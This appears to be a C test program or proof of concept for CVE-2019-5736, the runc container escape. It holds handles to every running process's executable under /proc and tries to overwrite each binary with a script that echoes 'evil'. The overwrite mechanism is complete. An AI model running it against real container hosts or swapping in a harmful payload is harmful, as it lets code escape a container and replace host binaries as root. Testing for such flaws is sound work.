/* SPDX-License-Identifier: MIT */
/*
 * exe SECONDS: hold on to the program of every process there is, and write to
 * it when it no longer runs, or is being run (CVE-2019-5736). What it writes
 * says so when it is run: as root of the host.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MOST 512

static int held[MOST], n;
static struct stat known[MOST];

static void hold(int pid)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) || n == MOST) {
		close(fd);
		return;
	}
	for (int i = 0; i < n; i++)
		if (known[i].st_ino == st.st_ino &&
		    known[i].st_dev == st.st_dev) {
			close(fd);
			return;
		}
	known[n] = st;
	held[n++] = fd;
}

static void overwrite(int fd)
{
	static const char evil[] = "#!/bin/sh\necho evil\n";
	char path[64], name[256] = "";
	int to;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	readlink(path, name, sizeof(name) - 1);
	if (strstr(name, "busybox") || !strcmp(name, "/exe"))
		return; /* its own */
	to = open(path, O_WRONLY);
	if (to >= 0 && write(to, evil, sizeof(evil) - 1) > 0)
		printf("wrote to %s\n", name);
	fflush(stdout);
	close(to);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);

	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		while ((e = readdir(proc)))
			if (atoi(e->d_name) > 0)
				hold(atoi(e->d_name));
		closedir(proc);
		for (int i = 0; i < n; i++)
			overwrite(held[i]);
	}
	return 0;
}
